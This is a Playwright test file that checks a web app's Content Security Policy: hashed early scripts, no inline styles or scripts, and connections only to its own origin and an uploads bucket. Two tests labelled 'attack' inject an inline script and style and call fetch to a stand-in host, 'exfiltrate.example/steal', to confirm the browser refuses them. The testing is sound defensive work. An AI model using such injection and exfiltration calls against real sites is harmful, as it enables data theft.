import type { Page } from 'playwright-core';
import { baseUrl, demoAccount, describe, expect, it } from '../support/fixture.ts';
import { verifiedStudent } from '../management/support.ts';
import { publicPages } from '../site/public-pages.ts';

// The pages' CSP has no 'unsafe-inline' for scripts or styles and connects only to the site's own
// origin and the uploads bucket's (issue 17, issue #25, decision 0037). The two early inline scripts run because the policy carries their
// hashes; anything else inline, or a connection to another host, is refused.
/** The browser's CSP refusals on a page, as Chromium reports them on the console. */
function cspRefusals(page: Page): string[] {
  const lines: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) lines.push(message.text());
  });
  return lines;
}

describe('the Content Security Policy of the pages', () => {
  it('has no unsafe-inline for scripts or styles, and connects to the own origin and the uploads bucket only', async () => {
    const uploadsOrigin = new URL(process.env.S3_ENDPOINT!).origin;
    for (const path of ['/management/login', '/']) {
      const response = await fetch(`${baseUrl}${path}`);
      const csp = response.headers.get('content-security-policy')!;
      const scriptSrc = /script-src ([^;]*)/.exec(csp)![1]!;
      expect(scriptSrc, path).not.toContain('unsafe-inline');
      expect(scriptSrc, path).toMatch(/'sha256-[\w+/=]+'/);
      expect(/style-src ([^;]*)/.exec(csp)![1], path).toBe("'self'");
      expect(/connect-src ([^;]*)/.exec(csp)![1], path).toBe(`'self' ${uploadsOrigin}`);
      expect(/img-src ([^;]*)/.exec(csp)![1], path).toBe(`'self' data: ${uploadsOrigin}`);
    }
  });

  it('lets every public page run its early script, with no refusal', async ({ page }) => {
    const refusals = cspRefusals(page);
    for (const { path } of [...publicPages, { path: '/no-such-page' }]) {
      await page.goto(`${baseUrl}${path}`);
      expect(await page.evaluate(() => document.documentElement.classList.contains('js')), path).toBe(true);
    }
    expect(refusals).toEqual([]);
  });

  it('lets the management app run its theme script before the first paint, with no refusal', async ({
    newPage,
  }) => {
    const page = await newPage({ colorScheme: 'dark' });
    const refusals = cspRefusals(page);
    await page.goto(`${baseUrl}/management/login`);
    await page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
    expect(await page.evaluate(() => document.documentElement.classList.contains('dark'))).toBe(true);
    expect(refusals).toEqual([]);
  });

  it('opens the realtime socket on the own origin once signed in, with no refusal', async ({ page }) => {
    const student = await verifiedStudent(baseUrl);
    const refusals = cspRefusals(page);
    const socket = page.waitForEvent('websocket', (ws) => new URL(ws.url()).pathname === '/ws');
    await page.goto(`${baseUrl}/management/login`);
    await page.getByLabel('Email').fill(student.email);
    await page.getByLabel('Password', { exact: true }).fill(student.password);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    expect(new URL((await socket).url()).host).toBe(new URL(baseUrl).host);
    expect(refusals).toEqual([]);
  });

  it('styles its toasts from a stylesheet file, with no refusal', async ({ page }) => {
    const student = await verifiedStudent(baseUrl);
    const refusals = cspRefusals(page);
    await page.goto(`${baseUrl}/management/login`);
    await page.getByLabel('Email').fill(student.email);
    await page.getByLabel('Password', { exact: true }).fill(student.password);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    const toaster = page.locator('[data-sonner-toaster]');
    await page.locator('[data-sonner-toast]').first().waitFor();
    // Sonner's rules reached the page (a toaster left unstyled sits in the flow, not fixed on top).
    expect(await toaster.evaluate((element) => getComputedStyle(element).position)).toBe('fixed');
    expect(await page.locator('style').count()).toBe(0);
    expect(refusals).toEqual([]);
  });

  it('attack: an injected inline style is not applied', async ({ page }) => {
    const refusals = cspRefusals(page);
    await page.goto(`${baseUrl}/management/login`);
    const applied = await page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent = 'body { visibility: hidden }';
      document.head.append(style);
      return getComputedStyle(document.body).visibility;
    });
    expect(applied).toBe('visible');
    await expect.poll(() => refusals.some((line) => /style/i.test(line))).toBe(true);
  });

  it('attack: an injected inline script does not run, and a connection to another host is refused', async ({
    signedInPage,
  }) => {
    const page = await signedInPage(demoAccount('admin'));
    const refusals = cspRefusals(page);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true;';
      document.head.append(script);
    });
    expect(await page.evaluate(() => (window as { __injected?: boolean }).__injected)).toBeUndefined();

    const outcome = await page.evaluate(() =>
      fetch('http://exfiltrate.example/steal').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(outcome).toBe('refused');
    await expect.poll(() => refusals.length).toBeGreaterThanOrEqual(2);
    expect(refusals.some((line) => /script/i.test(line))).toBe(true);
    expect(refusals.some((line) => /connect/i.test(line))).toBe(true);
  });
});
